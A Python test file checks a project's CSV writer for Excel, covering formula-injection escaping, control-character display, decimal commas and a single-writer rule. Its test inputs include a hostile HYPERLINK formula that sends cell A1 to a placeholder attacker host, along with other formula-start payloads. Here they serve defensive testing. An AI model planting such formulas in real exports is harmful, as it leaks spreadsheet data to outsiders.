"""The one CSV writer: what a trainer's Excel opens from any of the project's CSV files."""

from __future__ import annotations

import csv
import io

import pytest

from scenarios.exports.csvfile import excel_csv
from tests.architecture.imports import external, graph

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    """The cells as Excel reads them: UTF-8 after the byte order mark, `;` between cells."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_every_text_cell_that_a_spreadsheet_would_run_gets_a_quote_first() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1", "\n=1"]
    rows = cells(excel_csv(["=header"], [[value] for value in hostile]))
    assert rows[0] == ["'=header"]
    assert [row[0] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "\\x0dx",
        "'  =1", "'\n=1",
    ]  # fmt: skip


def test_numbers_stay_numbers_with_a_decimal_comma_and_control_characters_are_shown() -> None:
    text = excel_csv(["a", "b", "c", "d", "e"], [[2.5, 4.0, -1, None, "\x1b[2J\u202eevil\x07"], [float("-inf"), 0.125]])
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text and "\r" not in text
    assert cells(text)[1:] == [["2,5", "4", "-1", "", "\\x1b[2J\\u202eevil\\x07"], ["'-inf", "0,125"]]
    with pytest.raises(TypeError):
        excel_csv(["a"], [[True]])


def test_no_module_but_the_one_writer_writes_csv() -> None:
    writers = {name for name in graph() if "csv" in external(name)}
    assert writers == {"scenarios.exports.csvfile"}
